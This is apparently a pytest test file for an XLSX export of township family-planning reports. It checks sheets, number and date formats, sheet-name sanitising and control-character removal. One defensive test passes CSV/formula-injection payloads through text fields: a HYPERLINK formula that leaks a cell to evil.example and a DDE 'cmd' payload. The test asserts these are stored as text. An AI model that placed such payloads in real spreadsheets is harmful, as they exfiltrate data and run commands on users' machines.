"""The report as an XLSX workbook (app/reports/xlsx.py), opened again with openpyxl: a sheet
per part, headers in the asked language, numbers as numbers with their formats, dates as
dates, frozen header rows and sized columns."""
import datetime as dt
import io

import openpyxl
import pytest

from app.reports import document as d
from app.reports import xlsx
from tests.reports.sample_document import document


def _book(doc, lang="zh"):
    out = io.BytesIO()
    xlsx.write(doc, out, lang)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def _rows(sheet):
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_a_sheet_per_part_in_chinese():
    book = _book(document("town"))
    assert book.sheetnames == [
        "报告", "指标", "分村汇总", "出生性别比", "A 人口", "B 人口变动", "C 出生", "D 孕情", "E 节育", "F 三查",
        "G 孕优", "H 流动人口", "I 奖励扶助", "J 统计质量", "孕情消失名单", "逾期未报结局孕情",
        "修正", "补报"]
    cover = _rows(book["报告"])
    assert cover[0][0] == "全镇 2025-03 镇级月报"
    assert ["锁定状态", "已锁定（第2版，锁定于 2025-04-01 16:00 UTC，锁定人 supervisor）"] in \
        [r[:2] for r in cover]
    assert ["出生性别比偏高", "全镇", 1] in [r[:3] for r in cover]


def test_numbers_are_numbers_with_formats():
    book = _book(document("village"))
    sheet = book["B 人口变动"]
    assert _rows(sheet)[0] == ["项目", "本月", "补报", "本年累计", "统计年度累计", "去年同期"]
    assert sheet["A2"].value == "出生" and sheet["B2"].value == 6
    assert isinstance(sheet["B2"].value, int) and sheet["B2"].number_format == "0"
    assert sheet["A6"].value == "出生率 (‰)"
    assert sheet["B6"].value == pytest.approx(14.35) and sheet["B6"].number_format == "0.00"
    assert sheet["C6"].value is None                      # not computable: an empty cell
    assert sheet.freeze_panes == "B2"
    assert sheet.column_dimensions["A"].width >= 12       # '自然增长率 (‰)' fits
    rates = book["F 三查"]
    assert rates["D1"].value == "率 (%)" and rates["D2"].value == 88.0
    assert rates["D2"].number_format == "0.00"
    money = book["I 奖励扶助"]
    assert money["D2"].value == pytest.approx(4560.5) and money["D2"].number_format == "#,##0.00"
    indicators = _rows(book["指标"])
    assert indicators[0] == ["指标", "单位", "数值", "目标", "是否达标", "口径", "本月", "本年累计",
                             "本年累计（年化）", "统计年度累计", "近12个月", "去年同期", "期末", "本轮"]
    assert indicators[1] == ["出生率", "‰", 13.1, 12.0, "未达标", "本年累计（年化）", 14.35, 13.6,
                             13.1, 12.38, 12.5, 12.01, None, None]
    assert indicators[4][:6] == ["三查覆盖率", "%", 62.5, 95.0, "未达标", "本轮"]
    assert indicators[5][2] is None and indicators[5][4] == "无法判断"
    assert book["指标"]["C2"].number_format == "0.00"


def test_lists_dates_and_amendments():
    book = _book(document("village"), "en")
    assert "Pregnancies ended" in book.sheetnames
    ended = book["Pregnancies ended"]
    assert _rows(ended)[0] == ["No.", "Woman", "Village", "Ended on", "Outcome", "Weeks (wk)",
                               "Approval number", "Submission"]
    assert _rows(ended)[1][:3] == [1, "李秀英", "东湾村"]
    assert ended["A2"].number_format == "0"
    assert ended["D2"].value == dt.datetime(2025, 3, 4)
    assert ended["D2"].number_format == "yyyy-mm-dd"
    assert ended["F2"].value == 16 and ended["F2"].number_format == "0"
    assert ended["G2"].value is None and ended["G3"].value is None
    empty = _rows(book["Overdue pregnancies"])
    assert empty[1][0] == "(none)"
    amendments = _rows(book["Amendments"])
    assert amendments[0] == ["Month", "Village", "Event", "Cell", "Change", "Type",
                             "Submission", "Recorded at"]
    assert amendments[1] == ["2025-03", "Dongwan", "birth", "birth:female:2", 1, "late",
                             "uuid:0b7c-late", "2025-04-05 09:00 UTC"]
    late = _rows(book["Late records"])
    assert late[1][4] == -1 and late[1][5] == "removed"
    srb = _rows(book["Sex ratio at birth"])
    assert srb[0][:8] == ["Village", "Window", "Boys", "Girls", "Births", "Ratio",
                          "95% interval low", "95% interval high"]
    assert srb[2] == ["Dongwan", "Rolling 12 months", 140, 100, 240, 140.0, 108.4, 180.8, "high"]
    assert srb[4][:2] == ["Dongwan", "Statistical year to date"]


def test_village_table_of_the_town():
    sheet = _book(document("town"), "en")["By village"]
    rows = _rows(sheet)
    assert rows[0] == ["Item", "Population", "Births, month", "Sex ratio (12 months)"]
    assert rows[1] == ["Dongwan", 2001, 3, 150.0] and rows[-1] == ["Town total", 5020, 6, 140.0]
    assert sheet["D2"].number_format == "0.00" and sheet["B2"].number_format == "0"


def test_sheet_names_are_legal_and_unique(tmp_path):
    doc = document("village")
    doc["lists"] = [d.table("x", "名单/甲:乙?[丙]*" + "长" * 40, "x", [], []),
                    d.table("y", "名单/甲:乙?[丙]*" + "长" * 40, "y", [], [])]
    path = tmp_path / "r.xlsx"
    xlsx.write(doc, str(path), "zh")             # a path works as well as a file object
    names = openpyxl.load_workbook(path).sheetnames
    odd = [n for n in names if n.startswith("名单")]
    assert len(odd) == 2 and len(set(odd)) == 2
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)


def test_the_stub_document_writes():
    tiny = {"kind": "town", "month": "2025-03", "village": None, "villages": [],
            "lock": {"state": "open"}, "sections": [
                d.table("A", "人口", "Population", [d.column("end", "期末", "End")],
                        [d.row("population", "总人口", "Population", {"end": 0})])],
            "indicators": [], "sex_ratio": {}, "lists": [], "alerts": [], "amendments": [],
            "late_records": [], "charts": {}}
    book = _book(tiny, "en")
    assert book.sheetnames == ["Report", "A Population", "Amendments", "Late records"]
    assert book["A Population"]["B2"].value == 0


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"点击")',
                                     "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "#N/A"])
def test_phone_text_is_text_never_a_formula(payload):
    doc = document("village")
    doc["lists"][0]["rows"][0]["values"]["woman"] = payload
    doc["lists"][0]["rows"][0]["values"]["approval_no"] = payload
    doc["amendments"][0]["instance_id"] = payload
    book = _book(doc, "en")
    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row
                if c.data_type in ("f", "e")]
    assert formulas == []
    ended = book["Pregnancies ended"]
    assert ended["B2"].value == payload and ended["B2"].data_type == "s"
    assert ended["B2"].quotePrefix and ended["G2"].value == payload
    assert book["Amendments"]["G2"].value == payload


def test_characters_xlsx_cannot_hold_are_removed():
    doc = document("village")
    doc["lists"][0]["rows"][0]["values"]["woman"] = "李\x01秀\x1f英\x00"
    doc["village"] = {"code": "dongwan", "zh": "东湾\x0b村", "en": "Dong\x07wan"}
    doc["lists"][0]["zh"] = doc["lists"][0]["en"] = "Pregnancies\x02 ended"
    book = _book(doc, "en")
    assert book["Pregnancies ended"]["B2"].value == "李秀英"
    assert "Dongwan" in [c for r in _rows(book["Report"]) for c in r]
